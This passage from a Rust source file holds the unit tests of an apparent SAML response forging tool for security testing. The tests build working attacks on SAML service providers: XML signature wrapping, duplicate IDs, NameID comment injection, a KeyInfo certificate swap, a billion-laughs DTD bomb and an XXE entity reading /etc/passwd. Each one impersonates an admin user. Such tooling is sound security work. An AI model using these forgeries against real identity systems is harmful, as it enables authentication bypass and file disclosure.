        .expect("forge: format time")
}

/// Escape for text and double-quoted attributes.
fn esc(s: &str) -> String {
    s.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;")
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::OnceLock;

    const ACS: &str = "https://127.0.0.1:8443/v1/sso/saml/corp/acs";
    const SP: &str = "https://127.0.0.1:8443/v1/sso/saml/corp/metadata";

    fn rsa() -> &'static SigningKey {
        static KEY: OnceLock<SigningKey> = OnceLock::new();
        KEY.get_or_init(|| SigningKey::rsa("idp.example"))
    }

    fn other_rsa() -> &'static SigningKey {
        static KEY: OnceLock<SigningKey> = OnceLock::new();
        KEY.get_or_init(|| SigningKey::rsa("attacker.example"))
    }

    fn ec() -> &'static SigningKey {
        static KEY: OnceLock<SigningKey> = OnceLock::new();
        KEY.get_or_init(|| SigningKey::ec("idp-ec.example"))
    }

    fn forge() -> Forge {
        let mut f = Forge::new("https://idp.example/saml", SP, ACS, Some("_req1"), "alice@corp.example");
        f.attributes = vec![
            ("email".into(), vec!["alice@corp.example".into()]),
            ("urn:oid:1.3.6.1.4.1.5923.1.5.1.1".into(), vec!["staff".into(), "admins".into()]),
        ];
        f
    }

    fn evil(f: &Forge) -> Forge {
        let mut e = f.clone();
        e.assertion_id = random_id();
        e.name_id = "admin@corp.example".into();
        e
    }

    /// `xmlsec1 --decrypt` with `sp`'s private key: the document with the EncryptedData replaced.
    fn decrypt(xml: &str, sp: &SigningKey) -> String {
        let dir = tempfile::tempdir().unwrap();
        let key = write(dir.path(), "key.pem", &sp.key_pem);
        let input = write(dir.path(), "in.xml", xml);
        let out = xmlsec1(&["--decrypt", "--privkey-pem", &key, &input]);
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        strip_declaration(&String::from_utf8(out.stdout).unwrap())
    }

    /// How many Assertion elements are direct children of the Response, and their NameIDs.
    fn direct_name_ids(xml: &str) -> Vec<String> {
        let mut reader = NsReader::from_str(xml);
        let (mut depth, mut assertion_depth, mut in_name_id) = (0, None, false);
        let mut names = Vec::new();
        loop {
            match reader.read_event().unwrap() {
                Event::Start(e) => {
                    depth += 1;
                    let local = e.local_name();
                    if depth == 2 && local.as_ref() == b"Assertion" {
                        assertion_depth = Some(depth);
                        names.push(String::new());
                    }
                    in_name_id = assertion_depth.is_some_and(|d| depth == d + 2) && local.as_ref() == b"NameID";
                }
                Event::Text(t) if in_name_id => names.last_mut().unwrap().push_str(&t.unescape().unwrap()),
                Event::End(_) => {
                    in_name_id = false;
                    if assertion_depth == Some(depth) {
                        assertion_depth = None;
                    }
                    depth -= 1;
                }
                Event::Eof => return names,
                _ => {}
            }
        }
    }

    #[test]
    fn keys_are_usable() {
        for key in [rsa(), ec()] {
            let der = base64::engine::general_purpose::STANDARD.decode(key.cert_base64_der()).unwrap();
            assert_eq!(der[0], 0x30, "a DER SEQUENCE");
            assert!(key.key_pem.starts_with("-----BEGIN PRIVATE KEY-----"));
        }
        assert_eq!(rsa().alg(), Alg::RsaSha256);
        assert_eq!(ec().alg(), Alg::EcdsaSha256);
        let out = Command::new("openssl")
            .args(["x509", "-noout", "-text"])
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .spawn()
            .and_then(|mut c| {
                use std::io::Write;
                c.stdin.take().unwrap().write_all(rsa().cert_pem.as_bytes())?;
                c.wait_with_output()
            })
            .unwrap();
        assert!(String::from_utf8_lossy(&out.stdout).contains("Public-Key: (2048 bit)"));
    }

    #[test]
    fn unsigned_has_no_signature() {
        let xml = unsigned(&forge());
        assert!(!xml.contains("Signature"));
        assert!(!xmlsec_verify(&xml, rsa()));
        assert_eq!(direct_name_ids(&xml), ["alice@corp.example"]);
    }

    #[test]
    fn baselines_verify_with_the_idp_key_only() {
        let f = forge();
        for (name, xml, signatures) in [
            ("assertion", signed_assertion(&f, rsa()), 1),
            ("response", signed_response(&f, rsa()), 1),
            ("both", signed_both(&f, rsa()), 2),
        ] {
            assert_eq!(scan(&xml).signatures, signatures, "{name}");
            assert!(xmlsec_verify(&xml, rsa()), "{name} must verify:\n{xml}");
            assert!(!xmlsec_verify(&xml, other_rsa()), "{name} must not verify with another key");
            assert!(!xmlsec_verify(&xml, ec()), "{name} must not verify with an EC key");
            assert_eq!(direct_name_ids(&xml), ["alice@corp.example"], "{name}");
            // The signature sits right after the Issuer of what it signs.
            assert!(xml.contains("</saml:Issuer><ds:Signature"), "{name}");
            // Tampering with signed content breaks it.
            let tampered = xml.replace(">alice@corp.example<", ">alicf@corp.example<");
            assert!(!xmlsec_verify(&tampered, rsa()), "{name} tampered");
        }
    }

    #[test]
    fn ec_and_sha1_signatures_verify() {
        let f = forge();
        let xml = signed_both(&f, ec());
        assert!(xml.contains("xmldsig-more#ecdsa-sha256"));
        assert!(xmlsec_verify(&xml, ec()));
        assert!(!xmlsec_verify(&xml, rsa()));

        let xml = sign(&unsigned(&f), &f.response_id, Alg::RsaSha1, rsa(), Some(rsa()));
        assert!(xml.contains("xmldsig#rsa-sha1") && xml.contains("xmldsig#sha1"));
        assert!(xmlsec_verify(&xml, rsa()));
        assert!(!xmlsec_verify(&xml, other_rsa()));
    }

    #[test]
    fn keyinfo_certificate_is_not_what_verifies() {
        let f = forge();
        // Signed by the attacker, with the IdP's certificate in KeyInfo.
        let xml = sign(&unsigned(&f), &f.response_id, Alg::RsaSha256, other_rsa(), Some(rsa()));
        assert!(xml.contains(&rsa().cert_base64_der()));
        assert!(!xmlsec_verify(&xml, rsa()));
        assert!(xmlsec_verify(&xml, other_rsa()));
        // No KeyInfo at all.
        let xml = sign(&unsigned(&f), &f.response_id, Alg::RsaSha256, rsa(), None);
        assert!(!xml.contains("KeyInfo"));
        assert!(xmlsec_verify(&xml, rsa()));
    }

    #[test]
    fn comment_injection_still_verifies() {
        let f = forge();
        let xml = comment_in_name_id(&f, rsa());
        assert!(xml.contains(">alice@corp.example<!---->.evil.example</saml:NameID>"), "{xml}");
        assert!(xmlsec_verify(&xml, rsa()));
        assert!(!xmlsec_verify(&xml, other_rsa()));
        // Without the comment trick, the same edit is caught.
        let cut = xml.replace("<!---->.evil.example", "");
        assert!(!xmlsec_verify(&cut, rsa()));
    }

    #[test]
    fn wrapping_attacks_fool_a_signature_only_check() {
        let f = forge();
        let e = evil(&f);
        for (name, xml) in [
            ("extensions", wrap_assertion_in_extensions(&f, rsa(), &e)),
            ("over other element", response_signature_over_other_element(&f, rsa(), &e)),
            ("two assertions", two_assertions(&f, rsa(), &e)),
        ] {
            assert_eq!(xmlsec_signatures(&xml, rsa()), [true], "{name} must verify:\n{xml}");
            assert_eq!(xmlsec_signatures(&xml, other_rsa()), [false], "{name}");
            assert!(direct_name_ids(&xml).contains(&"admin@corp.example".to_string()), "{name}");
            assert!(xml.contains(&format!(r#"ID="{}""#, e.assertion_id)), "{name}");
        }
        let xml = wrap_assertion_in_extensions(&f, rsa(), &e);
        assert_eq!(direct_name_ids(&xml), ["admin@corp.example"]);
        let xml = two_assertions(&f, rsa(), &e);
        assert_eq!(direct_name_ids(&xml), ["alice@corp.example", "admin@corp.example"]);

        let xml = response_signature_over_other_element(&f, rsa(), &e);
        assert_eq!(direct_name_ids(&xml), ["admin@corp.example"]);
        assert!(xml.contains(&format!(r#"ID="{}" Version="2.0""#, f.response_id)));
        assert!(!xml.contains(&format!(r##"URI="#{}""##, f.response_id)));
        assert!(xml.contains("</saml:Issuer><ds:Signature"));
    }

    #[test]
    fn signature_object_wrapping_carries_the_digested_bytes() {
        let f = forge();
        let xml = wrap_assertion_in_signature_object(&f, rsa(), &evil(&f));
        assert_eq!(direct_name_ids(&xml), ["admin@corp.example"]);
        // xmlsec1 is spec-correct: the enveloped transform empties a Reference into its own
        // Signature, so the moved signature no longer verifies there...
        assert_eq!(xmlsec_signatures(&xml, rsa()), [false]);
        // ...but the Object holds exactly what was digested: put the signature back in the
        // original assertion and it verifies.
        let open = xml.find("<ds:Object>").unwrap();
        let close = xml.find("</ds:Object>").unwrap();
        let original = &xml[open + "<ds:Object>".len()..close];
        let signature = format!("{}</ds:Signature>", &xml[xml.find("<ds:Signature").unwrap()..open]);
        let at = locate(original, &f.assertion_id).after_issuer;
        let rebuilt = format!("{}{signature}{}", &original[..at], &original[at..]);
        assert!(xmlsec_verify(&rebuilt, rsa()));
    }

    #[test]
    fn duplicate_ids_reuse_the_signed_id() {
        let f = forge();
        let xml = duplicate_ids(&f, rsa(), &evil(&f));
        assert_eq!(xml.matches(&format!(r#"ID="{}""#, f.assertion_id)).count(), 2);
        assert_eq!(scan(&xml).signatures, 2);
        assert_eq!(direct_name_ids(&xml), ["admin@corp.example"]);
        assert!(xml.contains("<samlp:Extensions><saml:Assertion"));
        // xmlsec1 refuses duplicate IDs outright.
        assert!(!xmlsec_verify(&xml, rsa()));
    }

    #[test]
    fn dtd_documents() {
        let f = forge();
        let bomb = with_doctype_bomb(&f);
        assert!(bomb.contains("<!ENTITY lol0 \"lol\">"));
        assert!(bomb.contains(&format!("<!ENTITY lol9 \"{}\">", "&lol8;".repeat(10))));
        assert!(bomb.contains(">&lol9;</saml:NameID>"));
        let xxe = with_external_entity(&f, "/etc/passwd");
        assert!(xxe.contains(r#"<!ENTITY x SYSTEM "file:///etc/passwd">"#));
        assert!(xxe.contains(">&x;</saml:NameID>"));
        // Well-formed as far as a parser that expands nothing can tell.
        for doc in [&bomb, &xxe] {
            assert_eq!(scan(doc).signatures, 0);
        }
    }

    #[test]
    fn encrypted_assertions_decrypt_and_verify() {
        let f = forge();
        let sp = SigningKey::rsa("sp.example");
        for cipher in [DataCipher::Aes128Gcm, DataCipher::Aes128Cbc, DataCipher::Aes256Cbc] {
            for sign_response in [false, true] {
                let xml = encrypted_assertion_with(&f, rsa(), &sp.cert_pem, sign_response, cipher);
                assert!(xml.contains("<saml:EncryptedAssertion") && !xml.contains("alice@"));
                assert!(xml.contains(cipher.uri()) && xml.contains("xmlenc#rsa-oaep-mgf1p"));
                assert_eq!(scan(&xml).signatures, usize::from(sign_response));
                if sign_response {
                    assert!(xmlsec_verify(&xml, rsa()));
                }
                let plain = decrypt(&xml, &sp);
                assert!(plain.contains(
                    "<saml:EncryptedAssertion xmlns:saml=\"urn:oasis:names:tc:SAML:2.0:assertion\"><saml:Assertion"
                ));
                // The assertion's signature survives encryption; the Response's covered the
                // ciphertext, so it only verifies before decryption.
                let expected: &[bool] = if sign_response { &[false, true] } else { &[true] };
                assert_eq!(xmlsec_signatures(&plain, rsa()), expected, "{cipher:?} {sign_response}:\n{plain}");
            }
        }
        let xml = encrypted_assertion(&f, ec(), &sp.cert_pem, true);
        assert!(xmlsec_verify(&xml, ec()));
        assert_eq!(xmlsec_signatures(&decrypt(&xml, &sp), ec()), [false, true]);
    }

    #[test]
    fn forge_fields_land_where_they_belong() {
        let mut f = forge().at(1_795_953_600); // 2026-11-29T12:00:00Z
        f.audience = None;
        f.destination = None;
        f.in_response_to = None;
        f.status = "urn:oasis:names:tc:SAML:2.0:status:Responder".into();
        let xml = unsigned(&f);
        assert!(xml.contains(r#"IssueInstant="2026-11-29T12:00:00Z""#));
        assert!(xml.contains(r#"NotBefore="2026-11-29T11:59:55Z" NotOnOrAfter="2026-11-29T12:05:00Z""#));
        assert!(!xml.contains("Audience") && !xml.contains("Destination") && !xml.contains("InResponseTo"));
        assert!(xml.contains(r#"<samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Responder"/>"#));
        assert!(xml.contains(r#"Name="email" NameFormat="urn:oasis:names:tc:SAML:2.0:attrname-format:basic""#));
        assert!(xml.contains(r#"NameFormat="urn:oasis:names:tc:SAML:2.0:attrname-format:uri"><saml:AttributeValue>staff</saml:AttributeValue><saml:AttributeValue>admins</saml:AttributeValue>"#));
        let g = forge();
        let xml = unsigned(&g);
        assert!(xml.contains(&format!(r#"Destination="{ACS}" InResponseTo="_req1""#)));
        assert!(xml.contains(&format!(
            r#"InResponseTo="_req1" NotOnOrAfter="{}" Recipient="{ACS}""#,
            instant(g.not_on_or_after)
        )));
        assert!(xml.contains(&format!("<saml:Audience>{SP}</saml:Audience>")));
        let decoded = base64::engine::general_purpose::STANDARD.decode(b64(&xml)).unwrap();
        assert_eq!(decoded, xml.as_bytes());
    }
}
